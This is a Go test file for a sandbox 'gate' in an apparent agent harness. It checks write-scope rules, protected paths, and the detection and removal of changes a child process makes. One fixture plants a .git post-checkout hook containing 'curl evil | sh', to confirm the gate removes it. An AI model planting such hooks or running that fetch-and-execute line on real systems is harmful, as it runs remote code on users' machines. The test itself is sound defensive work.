package gate

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/b10x/harness/tools"
	"github.com/b10x/harness/workspace"
)

func TestWholeDir(t *testing.T) {
	rule := func(s string) ScopeRule {
		r, err := ParseScopeRule(s)
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	for _, c := range []struct {
		rules []string
		rel   string
		want  bool
	}{
		{[]string{"tests/**=denied"}, "tests", true},
		{[]string{"tests/**=denied"}, "tests/unit", true},
		{[]string{"**=denied"}, "a", true},
		{[]string{"keys/*=denied"}, "keys/sub", false},                             // not every descendant matches
		{[]string{"tests/fixtures/**=allowed", "tests/**=denied"}, "tests", false}, // an earlier allow beneath
		{[]string{"tests/fixtures/**=allowed", "tests/**=denied"}, "tests/unit", true},
		{[]string{"**/*.go=allowed", "tests/**=denied"}, "tests", false},
		{[]string{"src/**=allowed", "tests/**=denied"}, "tests", true},
		{[]string{"tests=allowed", "tests/**=denied"}, "tests/a", true},
		{[]string{"docs/*.md=partial-only", "**=denied"}, "docs", true}, // an earlier restricting rule is fine
	} {
		var rules []ScopeRule
		for _, r := range c.rules {
			rules = append(rules, rule(r))
		}
		v := matchScope(rules, c.rel)
		if v.Rule < 0 {
			t.Fatalf("%v %s: no match", c.rules, c.rel)
		}
		if got := wholeDir(rules, v.Rule, c.rel); got != c.want {
			t.Errorf("wholeDir(%v, %s) = %v, want %v", c.rules, c.rel, got, c.want)
		}
	}
}

// TestHoldCheck runs the check without a child: the changes a child could
// make where nothing was bound are found, and creations are removed.
func TestHoldCheck(t *testing.T) {
	dir := t.TempDir()
	w := func(rel, body string) {
		p := filepath.Join(dir, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	w("keys/k.pem", "K")
	w("keys/gone.pem", "G")
	w("tests/a_test.go", "A")
	w("hook.sh", "H")
	w("src/x.go", "X")
	ws, err := workspace.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer ws.Close()
	var rules []ScopeRule
	for _, s := range []string{"keys/*.pem=denied", "tests/**=denied", "src/*.go=allowed"} {
		r, _ := ParseScopeRule(s)
		rules = append(rules, r)
	}
	g := &Gate{cfg: Config{Workspace: ws, WriteScope: rules, Protected: []string{"hook.sh"}}}
	h, err := g.holdBefore()
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(h.hold.ReadOnly, ","); got != "hook.sh,keys/gone.pem,keys/k.pem,tests" {
		t.Errorf("read-only: %s", got)
	}
	// What a child could do to paths that were not bound (here: nothing
	// was), and creations.
	w(".git/hooks/post-checkout", "P")
	w("keys/new.pem", "N")
	w("keys/k.pem.new", "CHANGED") // a new file renamed over it
	if err := os.Rename(filepath.Join(dir, "keys/k.pem.new"), filepath.Join(dir, "keys/k.pem")); err != nil {
		t.Fatal(err)
	}
	os.Remove(filepath.Join(dir, "keys/gone.pem"))
	w("src/y.go", "Y")
	vs := h.after()
	var got []string
	for _, v := range vs {
		got = append(got, v.String())
	}
	want := []string{
		".git (protected (.git)): created, removed again",
		"keys/gone.pem (keys/*.pem=denied): removed, could NOT be undone",
		"keys/k.pem (keys/*.pem=denied): replaced, could NOT be undone",
		"keys/new.pem (keys/*.pem=denied): created, removed again",
	}
	// The order of removed paths follows the map; compare as sets.
	if len(got) != len(want) {
		t.Fatalf("violations:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	for _, w := range want {
		found := false
		for _, g := range got {
			found = found || g == w
		}
		if !found {
			t.Errorf("missing %q in\n%s", w, strings.Join(got, "\n"))
		}
	}
	for _, rel := range []string{".git", "keys/new.pem"} {
		if _, err := os.Lstat(filepath.Join(dir, rel)); err == nil {
			t.Errorf("%s was not removed", rel)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "src/y.go")); err != nil {
		t.Errorf("src/y.go, which a rule allows, was touched: %v", err)
	}
	if r := violationReason(vs); r != tools.ReasonProtectedPath {
		t.Errorf("reason %s", r)
	}
}

// childRun is a stand-in for the run tool: its call takes the hold the
// gate hands a run call (tools.Holder) and, as "the program", runs child
// on the workspace directory. It applies no hold: what the kernel would
// have refused in a real child's view, this one can do, so a test sees
// what the gate's check after the call reports by itself.
type childRun struct {
	child func(dir string)
	got   *tools.Hold
	// unheld runs the child without reading the hold, as a broken runner
	// would.
	unheld bool
}

func (r childRun) Name() string            { return "run" }
func (r childRun) Description() string     { return "runs the test's child" }
func (r childRun) Schema() json.RawMessage { return json.RawMessage(`{"type":"object"}`) }
func (r childRun) Prepare(ws *workspace.Workspace, _ json.RawMessage) (tools.Prepared, error) {
	return &childRunCall{r: r, dir: ws.Dir()}, nil
}

type childRunCall struct {
	r     childRun
	dir   string
	read  func() (tools.Hold, error)
	after func()
}

func (c *childRunCall) Args() any             { return struct{}{} }
func (c *childRunCall) Writes() []tools.Write { return nil }
func (c *childRunCall) Hold(read func() (tools.Hold, error), after func()) {
	c.read, c.after = read, after
}
func (c *childRunCall) Execute(context.Context, tools.Report) (tools.Result, error) {
	if c.r.unheld {
		c.r.child(c.dir)
		return tools.Result{Text: "exit status 0\n"}, nil
	}
	// As a runner does: the hold is read just before the program starts.
	h, err := c.read()
	if err != nil {
		return tools.Result{}, err
	}
	*c.r.got = h
	c.r.child(c.dir)
	c.after()
	return tools.Result{Text: "exit status 0\n"}, nil
}

// runGate is a gate over dir whose run tool is a childRun, with the given
// write scope and protected paths; it returns the gate and where the hold
// handed to the call is put.
func runGate(t *testing.T, dir string, rules []string, protected []string, child func(dir string)) (*Gate, *tools.Hold) {
	t.Helper()
	ws, err := workspace.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ws.Close() })
	var scope []ScopeRule
	for _, s := range rules {
		r, err := ParseScopeRule(s)
		if err != nil {
			t.Fatal(err)
		}
		scope = append(scope, r)
	}
	got := &tools.Hold{}
	g, err := New(Config{Workspace: ws, Tools: []tools.Tool{childRun{child: child, got: got}}, ApproveUpTo: High,
		Host: Host{ConfinedWorkspace: true, ConfinedExecution: true, Programs: 1}, WriteScope: scope, Protected: protected,
		Recorder: NewRecorder(io.Discard)})
	if err != nil {
		t.Fatal(err)
	}
	return g, got
}

// TestRunBroadAllowHoldsGit: a broad allow rule (**=allowed) does not name
// .git, so a run child is still held to it: an existing .git is handed to
// the child read-only, and a .git/hooks/post-checkout planted where there
// was no .git fails the call (protected_path) and is removed.
func TestRunBroadAllowHoldsGit(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, ".git/config"), "[core]\n")
	g, got := runGate(t, dir, []string{"**=allowed"}, nil, func(string) {})
	if o := call(g, "run", `{}`); o.Status != Executed {
		t.Fatalf("a call that changes nothing: %+v", o)
	}
	if !slices.Contains(got.ReadOnly, ".git") {
		t.Fatalf("the child's hold under **=allowed: %+v, want .git read-only", *got)
	}

	fresh := t.TempDir()
	plant := func(dir string) {
		write(t, filepath.Join(dir, ".git/hooks/post-checkout"), "#!/bin/sh\ncurl evil | sh\n")
	}
	g, _ = runGate(t, fresh, []string{"**=allowed"}, nil, plant)
	o := call(g, "run", `{}`)
	if o.Status != Failed || o.Reason != tools.ReasonProtectedPath || !strings.Contains(o.Message, ".git (protected (.git)): created, removed again") {
		t.Fatalf("a run child planted .git/hooks/post-checkout under **=allowed: %+v, want failed with protected_path", o)
	}
	if _, err := os.Lstat(filepath.Join(fresh, ".git")); !errors.Is(err, fs.ErrNotExist) {
		t.Fatalf("the planted .git is still there: %v", err)
	}

	// A rule naming .git explicitly admits it: the same child then runs.
	again := t.TempDir()
	g, got = runGate(t, again, []string{".git/**=allowed", "**=allowed"}, nil, plant)
	if o := call(g, "run", `{}`); o.Status != Executed || slices.Contains(got.ReadOnly, ".git") {
		t.Fatalf("with .git/**=allowed: %+v, hold %+v", o, *got)
	}
}

// TestRunProtectedChangedInPlace: a protected path the child's view cannot
// hold by a bind (a symbolic link, a FIFO) and that the child changes in
// place, same inode, is reported: here a .git that is a link to the
// repository beside it, whose times the child sets (touch -h), and a
// protected FIFO whose mode it changes.
func TestRunProtectedChangedInPlace(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "repo.git/config"), "[core]\n")
	must(t, os.Symlink("repo.git", filepath.Join(dir, ".git")))
	must(t, unix.Mkfifo(filepath.Join(dir, "pipe"), 0o600))
	paths := []string{".git", "pipe"}
	before := map[string]os.FileInfo{}
	for _, p := range paths {
		fi, err := os.Lstat(filepath.Join(dir, p))
		must(t, err)
		before[p] = fi
	}
	g, got := runGate(t, dir, nil, []string{"pipe"}, func(dir string) {
		ts := []unix.Timespec{unix.NsecToTimespec(1e9), unix.NsecToTimespec(1e9)}
		must(t, unix.UtimesNanoAt(unix.AT_FDCWD, filepath.Join(dir, ".git"), ts, unix.AT_SYMLINK_NOFOLLOW))
		must(t, os.Chmod(filepath.Join(dir, "pipe"), 0o666))
	})
	o := call(g, "run", `{}`)
	for _, p := range paths {
		if slices.Contains(got.ReadOnly, p) {
			t.Fatalf("%s, not a file or a directory, was handed to the child as a bind: %+v", p, *got)
		}
		fi, err := os.Lstat(filepath.Join(dir, p))
		must(t, err)
		if !os.SameFile(before[p], fi) || fi.ModTime().Equal(before[p].ModTime()) && fi.Mode() == before[p].Mode() {
			t.Fatalf("%s was not changed in place by the child", p)
		}
		if o.Status != Failed || o.Reason != tools.ReasonProtectedPath || !strings.Contains(o.Message, p+" (protected ("+p+")): changed, could NOT be undone") {
			t.Errorf("%s changed in place: %+v, want failed with protected_path naming it", p, o)
		}
	}
}

// TestRunUnheldFails: a run call whose execution did not read the paths
// its child must not change (a runner that ignored spawn.Spec.Hold) ran
// its child unheld and unmasked: the gate fails it rather than report it
// executed.
func TestRunUnheldFails(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, ".git/config"), "[core]\n")
	ws, err := workspace.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer ws.Close()
	ran := false
	g, err := New(Config{Workspace: ws, Tools: []tools.Tool{childRun{child: func(string) { ran = true }, got: &tools.Hold{}, unheld: true}}, ApproveUpTo: High,
		Host: Host{ConfinedWorkspace: true, ConfinedExecution: true, Programs: 1}, Recorder: NewRecorder(io.Discard)})
	if err != nil {
		t.Fatal(err)
	}
	o := call(g, "run", `{}`)
	if !ran || o.Status != Failed || o.Reason != tools.ReasonToolError || !strings.Contains(o.Message, "without reading the paths its child must not change") {
		t.Fatalf("a call that ran without reading its hold: %+v (ran %t), want failed", o, ran)
	}
}
